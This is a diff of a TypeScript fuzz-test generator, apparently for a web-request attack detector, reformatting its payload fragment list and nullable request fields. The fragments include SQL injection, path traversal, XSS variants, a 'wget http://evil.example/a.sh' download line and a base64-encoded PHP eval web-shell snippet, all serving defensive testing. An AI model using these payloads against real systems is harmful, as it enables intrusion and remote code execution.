@@ -4,10 +4,59 @@ import type { Request } from './entry.ts';
 /** Texts that the rules of the tests look for, and their like. */
 const FRAGMENTS = [
   ...['union select', 'UNION  SELECT', 'union/**/select', '/*', '*/', "' or 1=1", '../../', '/etc/passwd', '<script>'],
-  ...['<ſcript', 'KELVIN', '\u212aelvin', 'İn', '＜script＞', '&lt;script&gt;', '&#x3c;b', '\\x3cscript', '%c0%ae%c0%ae/'],
-  ...['%u003cscript', 'cmd=read', 'a=b', 'x', '=', '&', '?', '+', ' ', '  ', '/', '//', '/./', '%', '%2', '%25', '\0', '\n'],
-  ...['\\', '"', 'é', '\xff', 'wget http://evil.example/a.sh', '.php', '.bak', 'shell', 'ZXZhbCgkX1BPU1RbMV0pOw==', '$_POST'],
-  ...['sqlmap/1.8', 'Mozilla/5.0 (X11; Linux x86_64)', 'curl/8.0', 'https://www.example.org/?q=a+b', ';', '|', '(', ')'],
+  ...[
+    '<ſcript',
+    'KELVIN',
+    '\u212aelvin',
+    'İn',
+    '＜script＞',
+    '&lt;script&gt;',
+    '&#x3c;b',
+    '\\x3cscript',
+    '%c0%ae%c0%ae/',
+  ],
+  ...[
+    '%u003cscript',
+    'cmd=read',
+    'a=b',
+    'x',
+    '=',
+    '&',
+    '?',
+    '+',
+    ' ',
+    '  ',
+    '/',
+    '//',
+    '/./',
+    '%',
+    '%2',
+    '%25',
+    '\0',
+    '\n',
+  ],
+  ...[
+    '\\',
+    '"',
+    'é',
+    '\xff',
+    'wget http://evil.example/a.sh',
+    '.php',
+    '.bak',
+    'shell',
+    'ZXZhbCgkX1BPU1RbMV0pOw==',
+    '$_POST',
+  ],
+  ...[
+    'sqlmap/1.8',
+    'Mozilla/5.0 (X11; Linux x86_64)',
+    'curl/8.0',
+    'https://www.example.org/?q=a+b',
+    ';',
+    '|',
+    '(',
+    ')',
+  ],
 ];
 
 const ENCODINGS: readonly ((text: string) => string)[] = [
@@ -39,17 +88,20 @@ const target = fc
   });
 
 /** Requests that are made of attacks, of parts of them, and of what may confuse a decoder, encoded in all ways. */
-export const arbitraryRequest: fc.Arbitrary<Request> = fc.record(
-  {
-    target: fc.option(target),
-    method: fc.constantFrom('GET', 'POST', 'Post', 'TRACE', 'gEt'),
-    protocol: fc.constantFrom('HTTP/1.1', null),
-    status: fc.constantFrom(200, 404, 500, null),
-    userAgent: fc.option(text),
-    referer: fc.option(text.map((path) => `https://www.example.org/${path}`)),
-    user: fc.option(text),
-    host: fc.option(fc.constantFrom('www.example.org', 'evil.example')),
-    extra: fc.option(text.map((value) => ({ 'cs-cookie': value }))),
-  },
-  { requiredKeys: ['target', 'method'] },
-);
+export const arbitraryRequest: fc.Arbitrary<Request> = fc.record({
+  target: fc.option(target, { nil: null }),
+  method: fc.constantFrom('GET', 'POST', 'Post', 'TRACE', 'gEt'),
+  protocol: fc.constantFrom('HTTP/1.1', null),
+  status: fc.constantFrom(200, 404, 500, null),
+  userAgent: fc.option(text, { nil: null }),
+  referer: fc.option(
+    text.map((path) => `https://www.example.org/${path}`),
+    { nil: null },
+  ),
+  user: fc.option(text, { nil: null }),
+  host: fc.option(fc.constantFrom('www.example.org', 'evil.example'), { nil: null }),
+  extra: fc.option(
+    text.map((value) => ({ 'cs-cookie': value })),
+    { nil: null },
+  ),
+});
